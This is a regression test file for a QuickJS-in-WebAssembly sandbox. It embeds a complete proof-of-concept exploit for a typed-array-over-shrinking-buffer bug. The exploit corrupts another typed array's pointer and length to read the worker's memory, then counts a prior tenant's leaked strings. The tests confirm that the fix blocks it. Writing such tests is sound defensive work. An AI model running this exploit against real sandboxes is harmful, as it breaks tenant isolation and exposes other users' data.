/**
 * bellard/quickjs#478 in the shipped build, used as a tenant would use it: a typed array made
 * while its buffer shrinks keeps the old length over a 1-byte allocation, so it reads and
 * writes the heap past it. Writing a found typed array's pointer and length through it gives a
 * view of the whole WebAssembly memory, which a pool worker reuses for its runs: run B read the
 * strings run A had left there (1,589 copies of A's values, measured). The guest has no
 * `resize`, `transfer` or `transferToFixedLength` any more, so no ArrayBuffer ever changes its
 * length or its data after it was made, and the time-of-check bugs of #477, #478 and #492 (and
 * the view over a detached buffer, which pointed at address 0) have nothing to act on.
 */
import { afterAll, describe, expect, it } from "vitest";
import { createSandbox } from "../../src/index.js";

const sandbox = createSandbox({ poolSize: 1 });
afterAll(() => sandbox.dispose());

/** Run A: values with a marker, left in the worker's memory when its runtime is freed. */
const TENANT_A = "const o = {};\nfor (let i = 0; i < 2000; i++) o['k' + i] = 'TENANT-A-VALUE-' + i;\nObject.keys(o).length";

/** The marker's first 12 bytes as little-endian words, so run B's own source does not hold it (QuickJS strings start word-aligned). */
const MARKER_WORDS = [0, 4, 8].map((offset) => Buffer.from("TENANT-A-VALUE-").readUInt32LE(offset));

/**
 * Run B: finds one of its own typed arrays through the over-long view (its length field is a
 * chosen number), points it at address 0 with a 16 MiB length, and counts the marker in the
 * memory. Its answer: the count, or where the attack stopped.
 */
const TENANT_B = `const MARK = 0x1357, WORDS = 4 << 20, P = ${JSON.stringify(MARKER_WORDS)};
const buffer = new ArrayBuffer(65536, { maxByteLength: 65536 });
const target = (function () {}).bind(null);
Object.defineProperty(target, "prototype", { get() { buffer.resize(0); return Uint8Array.prototype; } });
const w = Reflect.construct(Uint8Array, [buffer], target);
const rd = (i) => (w[i] | (w[i + 1] << 8) | (w[i + 2] << 16) | (w[i + 3] << 24)) >>> 0;
const wr = (i, v) => { for (let k = 0; k < 4; k++) w[i + k] = (v >>> (8 * k)) & 255; };
const backing = new ArrayBuffer(MARK * 4), views = [];
let at = -1;
for (let round = 0; round < 100 && at < 0; round++) {
  for (let k = 0; k < 64; k++) views.push(new Uint32Array(backing, 0, MARK));
  // A typed array's JSObject (wasm32): u.array.u1 at 28, its data pointer at 32, its length at 36.
  for (let i = 0; i + 40 <= w.length; i += 4) if (rd(i + 36) === MARK && rd(i + 28) !== 0 && rd(i + 32) !== 0) { at = i; break; }
}
let answer = "no typed array within reach";
if (at >= 0) {
  const pointer = rd(at + 32);
  wr(at + 32, 0); wr(at + 36, WORDS);
  // Now one view reads the first 16 MiB of the memory, a word at a time (a plain loop: the
  // view's own length field still says MARK, so the built-ins would refuse it).
  const all = views.find((v) => v.length === WORDS);
  let hits = 0;
  for (let i = 0; all && i < WORDS - 2; i++) if (all[i] === P[0] && all[i + 1] === P[1] && all[i + 2] === P[2]) hits++;
  wr(at + 32, pointer); wr(at + 36, MARK);
  answer = all ? hits : "the view was not found";
}
answer`;

describe("a typed array over a shrinking buffer (bellard/quickjs#478) reaches no other run", () => {
  it("run B finds none of run A's values in the worker's memory", async () => {
    expect((await sandbox.run(TENANT_A)).result).toBe(2000);
    const b = await sandbox.run(TENANT_B, { timeoutMs: 20_000 });
    // Before the fix: success with 1,500-1,600 copies of A's values found.
    expect(b.result === undefined || b.result === 0, `run B answered ${JSON.stringify(b.result)}`).toBe(true);
    expect(b.status).toBe("runtime_error");
    expect(b.error?.message).toMatch(/not a function/);
  });

  it("no ArrayBuffer can shrink, grow or be detached: resize, transfer and transferToFixedLength are gone", async () => {
    const probe = `[typeof ArrayBuffer.prototype.resize, typeof ArrayBuffer.prototype.transfer, typeof ArrayBuffer.prototype.transferToFixedLength,
  Object.getOwnPropertyNames(ArrayBuffer.prototype).filter((k) => /resize|transfer/.test(k)), new ArrayBuffer(8, { maxByteLength: 16 }).byteLength]`;
    const expected = ["undefined", "undefined", "undefined", [], 8];
    expect((await sandbox.run(probe)).result).toEqual(expected);
    expect((await sandbox.run(probe, { language: "typescript" })).result).toEqual(expected);
    const session = await sandbox.createSession({ language: "javascript" });
    try {
      expect((await session.run(probe)).result).toEqual(expected);
    } finally {
      await session.dispose();
    }
  });
});
